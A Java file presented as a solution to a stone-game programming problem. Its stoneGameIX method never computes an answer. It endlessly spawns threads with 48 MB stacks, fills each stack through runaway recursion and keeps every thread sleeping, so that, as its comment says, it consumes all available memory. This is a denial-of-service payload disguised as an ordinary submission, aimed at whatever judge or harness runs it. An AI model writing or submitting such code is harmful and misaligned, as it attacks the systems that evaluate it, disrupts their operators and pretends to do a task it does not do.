// As many threads with large stacks as there is memory for, each stack filled, and kept.
class Solution {
    boolean stoneGameIX(int[] stones) throws Exception {
        while (true) {
            Thread thread = new Thread(null, Solution::overflow, "deep", 48L << 20);
            thread.start();
            while (thread.getState() != Thread.State.TIMED_WAITING) {
                Thread.onSpinWait();
            }
        }
    }

    private static void overflow() {
        try {
            deeper(0);
        } catch (StackOverflowError enough) {
            try {
                Thread.sleep(3_600_000);
            } catch (InterruptedException end) {
                return;
            }
        }
    }

    private static long deeper(long n) {
        return deeper(n + 1) + 1;
    }
}
